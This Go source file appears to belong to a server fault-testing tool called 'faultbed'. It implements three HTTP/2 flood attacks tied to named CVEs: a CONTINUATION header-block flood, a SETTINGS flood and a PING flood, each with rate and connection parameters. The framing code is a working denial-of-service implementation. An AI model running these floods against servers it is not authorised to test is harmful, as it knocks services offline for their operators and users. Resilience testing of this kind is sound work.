package http

import (
	"bytes"
	"context"
	"strings"

	"faultbed/faults/param"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// blockFrames is how many frames a header block of the flood has: 100 KiB, more
// than any request has a use for.
const blockFrames = 100

// continuationFlood is CVE-2024-27316 and kin: a header block that goes on and on.
// Nothing else may come before its end (RFC 9113 §6.10), so a PING follows that.
var continuationFlood = Kind{Name: "continuation-flood", Sentence: "sends HTTP/2 header blocks of 100 CONTINUATION frames of 1 KiB each (CVE-2024-27316)", HTTP2: true,
	Touches: "blocks", Bites: "a block before a PING that the subject acknowledged" + orEnded,
	Params: []param.Param{connections(2), rate(1000, "frames")},
	run: func(ctx context.Context, a *attack, c *h2conn) {
		first, more, sent := c.fields("GET", a.path("short", "size=64")), literal("x-flood", 1024), 0
		a.paced(ctx, func(n int) error {
			a.saw("frames sent", int64(n))
			return c.write(func(fr *http2.Framer) error {
				for range n {
					sent++
					c.block(fr, sent%blockFrames, first, more)
				}
				return nil
			})
		})
	}}

// block writes the nth frame of a header block; the 0th is the last.
func (h *h2conn) block(fr *http2.Framer, nth int, first, more []byte) {
	switch nth {
	case 1:
		h.within = true
		fr.WriteHeaders(http2.HeadersFrameParam{StreamID: h.stream(), BlockFragment: first, EndStream: true})
	case 0:
		fr.WriteContinuation(h.next-2, true, more)
		h.within = false
		h.mark(fr, 1)
	default:
		fr.WriteContinuation(h.next-2, false, more)
	}
}

// literal is a header line of about n bytes that enters no table.
func literal(name string, n int) []byte {
	var b bytes.Buffer
	hpack.NewEncoder(&b).WriteField(hpack.HeaderField{Name: name, Value: strings.Repeat("~", n), Sensitive: true})
	return b.Bytes()
}

// settingsFlood is CVE-2019-9515: each SETTINGS wants an acknowledgement (RFC 9113
// §6.5.3).
var settingsFlood = Kind{Name: "settings-flood", Sentence: "sends HTTP/2 SETTINGS frames, each of which must be acknowledged (CVE-2019-9515)", HTTP2: true,
	Touches: "frames", Bites: "a frame before a PING that the subject acknowledged" + orEnded,
	Params: []param.Param{connections(2), rate(1000, "frames")},
	run: func(ctx context.Context, a *attack, c *h2conn) {
		a.flood(ctx, c, func(fr *http2.Framer) {
			fr.WriteSettings(http2.Setting{ID: http2.SettingMaxConcurrentStreams, Val: 100})
		})
	}}

// pingFlood is CVE-2019-9512: each PING wants an acknowledgement (RFC 9113 §6.7).
var pingFlood = Kind{Name: "ping-flood", Sentence: "sends HTTP/2 PING frames, each of which must be acknowledged (CVE-2019-9512)", HTTP2: true,
	Touches: "frames", Bites: "a PING that the subject acknowledged" + orEnded,
	Params: []param.Param{connections(2), rate(1000, "frames")},
	run: func(ctx context.Context, a *attack, c *h2conn) {
		a.paced(ctx, func(n int) error {
			return c.write(func(fr *http2.Framer) error {
				for range n {
					c.mark(fr, 1)
				}
				return nil
			})
		})
	}}

// flood sends the same frame at the attack's rate, and a PING after each burst.
func (x *attack) flood(ctx context.Context, c *h2conn, one func(*http2.Framer)) {
	x.paced(ctx, func(n int) error {
		return c.write(func(fr *http2.Framer) error {
			for range n {
				one(fr)
			}
			return c.mark(fr, int64(n))
		})
	})
}
